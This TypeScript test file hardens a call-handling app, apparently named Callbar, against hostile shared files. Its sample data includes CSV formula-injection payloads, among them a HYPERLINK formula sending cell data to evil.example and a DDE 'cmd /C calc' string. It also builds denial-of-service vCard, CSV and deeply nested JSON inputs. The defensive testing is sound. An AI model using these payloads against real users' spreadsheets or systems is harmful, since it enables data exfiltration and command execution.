/**
 * Files from coworkers and administrators, attacked (issue 40, points 10 to 13): exports opened
 * by a spreadsheet in any locale, contact files built to cost CPU or memory, and a policy file
 * built to crash every Callbar process on the machine.
 *
 * - CSV exports (contacts, the call history and its notes) read by Excel splitting on `;` (German
 *   and many other locales), a tab or `,`: no cell starts a formula, whatever a coworker named a
 *   contact or a user wrote in a note.
 * - A vCard line with 917,000 parameters (3.5 MB) and one longer than a megabyte: refused with a
 *   sentence naming the line before ical.js parses anything (the parameters cost it 24 s).
 * - An 8 MB CSV of `"a,` and one of an 8 MB row: refused at their first bad row, the peak memory of
 *   the process reading them a small multiple of the file (it was 1.3 GB), each in a process of
 *   its own so the figure is the parse's.
 * - A 10 KB policies.json whose `region` is an array nested 5,000 deep: `callbar help`, `policy
 *   --json` and `status` still run; the value is reported with the file and ignored.
 */
import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Call } from '../../src-shared/contract';
import { callHistoryCsv } from '../../src-main/core/calls/call-history-csv';
import { csvHeading, csvLines } from '../../src-main/core/contacts-io/contact-csv';
import {
  MAX_VCARD_LINE_CHARS,
  MAX_VCARD_PARAMETERS,
} from '../../src-main/core/contacts-io/contact-vcard';
import { parseImport } from '../../src-main/core/contacts-io/import-file';
import { runCallbar } from '../support/cli-process';
import { recordFigure } from '../support/hardening/figures';

const root = join(import.meta.dirname, '..', '..');
const run = promisify(execFile);
const MiB = 1024 * 1024;

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'callbar-hostile-files-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

interface ChildRead {
  ms: number;
  peak_growth_mib: number;
  rows?: number;
  error?: string;
}

/** Reads `file` as an import does, in a process of its own (read-import-child.ts). */
async function readInChild(file: string): Promise<ChildRead> {
  const { stdout } = await run(
    process.execPath,
    ['--import', 'tsx', join(root, 'test/support/hardening/read-import-child.ts'), file],
    { cwd: root, maxBuffer: MiB },
  );
  return JSON.parse(stdout.trim().split('\n').at(-1)!) as ChildRead;
}

/** What a coworker types into a name, a company or a note to run formulas in a spreadsheet. */
const FORMULAS = [
  'Weber;=HYPERLINK("https://evil.example/?"&A1;"Weber");',
  "Weber;=1+1;+cmd|' /C calc'!A0;@SUM(1+1);-2+3",
  'Tab\t=1+1\t@SUM(A1)',
  'Komma,=1+1,+2',
];

/**
 * Cells a spreadsheet splitting on `separator` would run as a formula, read two ways: as RFC 4180
 * says (papaparse with that delimiter), and as a reader that takes quotes for plain characters
 * (splitting every line on the separator, then ignoring quotes before a cell's first character),
 * which is how Excel meets a quoted cell that does not start one of its own cells.
 */
function formulaCells(csv: string, separator: string): { formulas: number; cells: number } {
  const quoted = Papa.parse<string[]>(csv, { delimiter: separator, skipEmptyLines: true }).data;
  const plain = csv
    .split(/\r\n|\n|\r/)
    .filter((line) => line !== '')
    .map((line) => line.split(separator).map((cell) => cell.replace(/^"+/, '')));
  const cells = [...quoted.flat(), ...plain.flat()];
  return {
    formulas: cells.filter((cell) => /^[=+\-@\t\r]/.test(cell)).length,
    cells: cells.length,
  };
}

describe('files a coworker shares', () => {
  it('writes no formula cell for a reader splitting on ;, a tab or , (contacts, calls, notes)', () => {
    const contacts =
      csvHeading(true) +
      csvLines(
        FORMULAS.map((text, index) => ({
          display_name: text,
          number: `+4930123456${index}`,
          secondary_number: null,
          speed_dial: 200 + index,
          company: text,
        })),
        FORMULAS[0],
      );
    const calls = callHistoryCsv(
      FORMULAS.map((text, index): Call => ({
        id: `call-${index}`,
        direction: 'outgoing',
        state: 'ended',
        started_at: '2026-11-25T10:00:00.000Z',
        ended_at: '2026-11-25T10:01:00.000Z',
        leg_ids: [],
        party: { number: '+4930123456', display: text, name: text, company: text },
        reason: text,
        note: text,
      })),
    );
    const counts = [';', '\t', ','].map((separator) => {
      const inContacts = formulaCells(contacts, separator);
      const inCalls = formulaCells(calls, separator);
      return {
        separator,
        formulas: inContacts.formulas + inCalls.formulas,
        cells: inContacts.cells + inCalls.cells,
      };
    });
    recordFigure(
      'formula cells in the contact and call-history (notes) CSV exports of 4 hostile names, read splitting on ; / tab / ,',
      counts.map((count) => `${count.formulas} of ${count.cells}`).join(' / '),
    );
    expect(counts).toEqual(counts.map((count) => ({ ...count, formulas: 0 })));
    // Read back by an import, each text is what it was.
    const imported = parseImport(new TextEncoder().encode(contacts), '.csv');
    expect(imported.rows.map((row) => [row[0], row[1], row[5]])).toEqual(
      FORMULAS.map((text) => [FORMULAS[0], text, text]),
    );
  });

  it('refuses a vCard line of 917,000 parameters, or of over a megabyte, naming it, before parsing', async () => {
    const file = join(dir, 'parameters.vcf');
    const line = `TEL${';X=1'.repeat(917_504)}:+4930123456`;
    await writeFile(file, `BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Many\r\n${line}\r\nEND:VCARD\r\n`);
    const size = (await stat(file)).size;
    const read = await readInChild(file);
    recordFigure(
      `vCard of ${(size / MiB).toFixed(1)} MB, 917,504 parameters on one line: time to refuse`,
      `${(read.ms / 1000).toFixed(2)} s (${read.error ?? 'not refused'})`,
    );
    expect(read.error).toBe(
      `Line 4 of the vCard file has more than ${MAX_VCARD_PARAMETERS} parameters; Callbar does not read it.`,
    );

    // A folded line counts whole: 1 MiB of a name folded into lines of 75, from line 5 on. (A
    // line Callbar does not read, a note or a photo, is only skipped over: import-encodings.test.ts.)
    const folded = `FN:${'x'.repeat(MAX_VCARD_LINE_CHARS)}`.replace(/.{75}/g, '$&\r\n ');
    const long = `BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Long\r\nTEL:+4930123456\r\n${folded}\r\nEND:VCARD\r\n`;
    expect(() => parseImport(new TextEncoder().encode(long), '.vcf')).toThrow(
      `Line 5 of the vCard file is longer than ${MAX_VCARD_LINE_CHARS.toLocaleString('en-US')} characters; Callbar does not read it.`,
    );
  });

  it('reads 8 MB CSVs of unclosed quotes and of one endless row within a small multiple of their size', async () => {
    const quotes = join(dir, 'quotes.csv');
    await writeFile(quotes, '"a,'.repeat(Math.floor((8 * MiB) / 3)));
    const row = join(dir, 'row.csv');
    await writeFile(row, `Name,Number\n${'a,'.repeat(4 * MiB)}`);
    const figures: string[] = [];
    for (const [file, expected] of [
      [
        quotes,
        'The CSV file is not well formed: text follows the closing quote of a cell before the next separator (row 1).',
      ],
      [row, 'The CSV file is not well formed: a row is longer than 1,048,576 characters (row 2).'],
    ] as const) {
      const mib = (await stat(file)).size / MiB;
      const read = await readInChild(file);
      expect(read.error).toBe(expected);
      figures.push(
        `${(read.ms / 1000).toFixed(2)} s, peak RSS +${read.peak_growth_mib.toFixed(0)} MiB (${(read.peak_growth_mib / mib).toFixed(1)}× the file)`,
      );
      // The file's bytes (read into a buffer of the 10 MB bound) and its text, plus a little.
      expect(read.peak_growth_mib).toBeLessThan(4 * mib + 16);
    }
    recordFigure('8 MB CSV of "a, (unclosed quotes): refused in / peak memory', figures[0]!);
    recordFigure('8 MB CSV, one row of 4 M cells: refused in / peak memory', figures[1]!);
  });
});

describe('a policy file built to crash Callbar', () => {
  it('ignores a value nested 5,000 deep, naming the file, and every command still runs', async () => {
    const policyDir = join(dir, 'policy');
    const dataDir = join(dir, 'profile');
    await mkdir(policyDir, { recursive: true });
    const deep = `${'['.repeat(5000)}"AT"${']'.repeat(5000)}`;
    const file = join(policyDir, 'policies.json');
    await writeFile(file, `{"locked": {"region": ${deep}, "sync_interval_minutes": 7}}`);
    const env = {
      CALLBAR_POLICY_DIR: policyDir,
      CALLBAR_DATA_DIR: dataDir,
      CALLBAR_RECEIVER_PORT: '41998',
    };
    const help = await runCallbar(['help'], env);
    const policy = await runCallbar(['policy', '--json'], env);
    const status = await runCallbar(['status', '--json'], env);
    const codes = [help, policy, status].map((each) => each.code);
    recordFigure(
      `policies.json of ${((await stat(file)).size / 1024).toFixed(0)} KB, region nested 5,000 deep: exit codes of help / policy --json / status --json`,
      `${codes.join(' / ')} (3: not connected; the value reported with its file and ignored, the rest applied)`,
    );
    for (const each of [help, policy, status]) expect(each.stderr).not.toMatch(/RangeError/);
    expect(help.code).toBe(0);
    expect(policy.code).toBe(0);
    const report = JSON.parse(policy.stdout) as {
      values: Record<string, { value: unknown; source: string }>;
      problems: string[];
    };
    expect(report.problems).toEqual([
      `${file}: the locked policy "region" is nested more than 4 levels deep, which no policy is; Callbar ignores it.`,
    ]);
    expect(report.values.region?.source).not.toBe('locked');
    expect(report.values.sync_interval_minutes).toMatchObject({ value: 7, source: 'locked' });
    expect(status.stdout).toContain('nested more than 4 levels deep');
  });
});
